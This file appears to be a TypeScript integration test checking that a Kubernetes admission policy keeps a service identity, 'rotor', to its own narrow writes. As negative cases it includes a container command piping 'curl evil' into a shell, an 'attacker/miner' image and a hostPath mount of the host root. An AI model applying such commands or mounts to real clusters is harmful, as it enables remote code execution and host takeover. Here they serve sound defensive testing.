/**
 * infra/k8s/admission on the real test API server: rotor's identity, bound to rbac.yaml, is
 * refused what rotor never writes (an image change, a hand-made Job) and allowed what it
 * does (Reloader's env var and annotation, spec.paused, a Job from a CronJob). The binding is
 * limited to one labelled namespace so other tests sharing the server are not affected.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import {
  KubeConfig,
  type KubernetesObject,
  KubernetesObjectApi,
  PatchStrategy,
} from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { testEnv, uniqueName } from '../../env/index.js';
import { REPO_ROOT } from '../../env/paths.js';

const cluster = testEnv().clusters[0]!;
const api = (kubeconfig: string) => {
  const kc = new KubeConfig();
  kc.loadFromString(kubeconfig);
  return KubernetesObjectApi.makeApiClient(kc);
};
const admin = api(cluster.adminKubeconfig);
const rotor = api(cluster.rotorKubeconfig);
const tag = uniqueName('vap');
const ns = tag;
const policyName = `rotor-writes-only-${tag}`;

type Obj = KubernetesObject & Record<string, unknown>;
const container = { name: 'app', image: 'registry.example/app:1', env: [{ name: 'MODE', value: 'prod' }] };
const template = { metadata: { labels: { app: 'web' } }, spec: { containers: [container] } };

async function policyObjects(): Promise<Obj[]> {
  const text = await readFile(path.join(REPO_ROOT, 'infra/k8s/admission/rotor-writes-only.yaml'), 'utf8');
  const [policy, binding] = parseAllDocuments(text).map((d) => d.toJSON() as Obj);
  (policy!.metadata as { name: string }).name = policyName;
  (binding!.metadata as { name: string }).name = policyName;
  const spec = binding!.spec as Record<string, unknown>;
  spec.policyName = policyName;
  spec.matchResources = { namespaceSelector: { matchLabels: { 'rotor-vap-test': tag } } };
  return [policy!, binding!];
}

function refusal(call: Promise<unknown>): Promise<string> {
  return call.then(
    () => 'allowed',
    (error: { body?: unknown; message?: string }) =>
      `refused: ${JSON.stringify(error.body ?? error.message)}`,
  );
}

const merge = (obj: Obj, patch: unknown) =>
  rotor.patch(
    { ...obj, ...(patch as object) } as Obj,
    undefined,
    undefined,
    'rotor',
    undefined,
    PatchStrategy.MergePatch,
  );

const deployment: Obj = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'web', namespace: ns },
  spec: { selector: { matchLabels: { app: 'web' } }, template },
};

beforeAll(async () => {
  await admin.create({
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: ns, labels: { 'rotor-vap-test': tag } },
  });
  for (const o of await policyObjects()) await admin.create(o);
  await admin.create(deployment);
  await admin.create({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'nightly', namespace: ns },
    spec: {
      schedule: '0 0 * * *',
      jobTemplate: { spec: { template: { spec: { ...template.spec, restartPolicy: 'Never' } } } },
    },
  } as Obj);
  // The policy takes effect once the API server has compiled it: wait until an image change is refused.
  const deadline = Date.now() + 20_000;
  while (
    (await refusal(
      merge(deployment, {
        spec: { template: { spec: { containers: [{ name: 'app', image: 'probe:0' }] } } },
      }),
    )) === 'allowed'
  ) {
    await admin.patch(
      {
        ...deployment,
        spec: { template: { spec: { containers: [{ name: 'app', image: container.image }] } } },
      } as Obj,
      undefined,
      undefined,
      'test',
      undefined,
      PatchStrategy.StrategicMergePatch,
    );
    if (Date.now() > deadline) throw new Error('the admission policy never took effect');
    await new Promise((r) => setTimeout(r, 250));
  }
}, 60_000);

afterAll(async () => {
  for (const o of (await policyObjects()).reverse()) await admin.delete(o).catch(() => undefined);
  await admin.delete({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } }).catch(() => undefined);
});

describe('ValidatingAdmissionPolicy: rotor identity changes only what rotor writes', () => {
  it('refuses an image change to rotor', async () => {
    const answer = await refusal(
      rotor.patch(
        {
          ...deployment,
          spec: { template: { spec: { containers: [{ name: 'app', image: 'attacker/miner:1' }] } } },
        } as Obj,
        undefined,
        undefined,
        'rotor',
        undefined,
        PatchStrategy.StrategicMergePatch,
      ),
    );

    expect(answer).toMatch(/refused.*images/);
  });

  it('refuses a change of a non-STAKATER env var, a command and a volume to rotor', async () => {
    const env = await refusal(
      rotor.patch(
        {
          ...deployment,
          spec: {
            template: { spec: { containers: [{ name: 'app', env: [{ name: 'MODE', value: 'debug' }] }] } },
          },
        } as Obj,
        undefined,
        undefined,
        'rotor',
        undefined,
        PatchStrategy.StrategicMergePatch,
      ),
    );
    const command = await refusal(
      rotor.patch(
        {
          ...deployment,
          spec: {
            template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } },
          },
        } as Obj,
        undefined,
        undefined,
        'rotor',
        undefined,
        PatchStrategy.StrategicMergePatch,
      ),
    );
    const volume = await refusal(
      rotor.patch(
        {
          ...deployment,
          spec: { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } },
        } as Obj,
        undefined,
        undefined,
        'rotor',
        undefined,
        PatchStrategy.StrategicMergePatch,
      ),
    );

    expect([env, command, volume].map((a) => a.startsWith('refused'))).toEqual([true, true, true]);
  });

  it('refuses a hand-made Job to rotor', async () => {
    const answer = await refusal(
      rotor.create({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: { name: 'hand-made', namespace: ns },
        spec: { template: { spec: { ...template.spec, restartPolicy: 'Never' } } },
      } as Obj),
    );

    expect(answer).toMatch(/refused.*CronJob/);
  });

  it("allows rotor's own writes: STAKATER env var, pod-template annotation, spec.paused, a Job from a CronJob", async () => {
    const envVar = await refusal(
      rotor.patch(
        {
          ...deployment,
          spec: {
            template: {
              spec: { containers: [{ name: 'app', env: [{ name: 'STAKATER_DB_SECRET', value: 'abc' }] }] },
            },
          },
        } as Obj,
        undefined,
        undefined,
        'rotor',
        undefined,
        PatchStrategy.StrategicMergePatch,
      ),
    );
    const annotation = await refusal(
      merge(deployment, {
        spec: {
          template: { metadata: { annotations: { 'reloader.stakater.com/last-reloaded-from': '{}' } } },
        },
      }),
    );
    const paused = await refusal(merge(deployment, { spec: { paused: true } }));
    const cronjob = (await admin.read({
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'nightly', namespace: ns },
    })) as Obj & { metadata: { uid: string } };
    const fromCronJob = await refusal(
      rotor.create({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: {
          name: 'nightly-manual',
          namespace: ns,
          annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: 'nightly',
              uid: cronjob.metadata.uid,
              controller: true,
            },
          ],
        },
        spec: (cronjob.spec as { jobTemplate: { spec: unknown } }).jobTemplate.spec,
      } as Obj),
    );

    expect([envVar, annotation, paused, fromCronJob]).toEqual(['allowed', 'allowed', 'allowed', 'allowed']);
  });
});
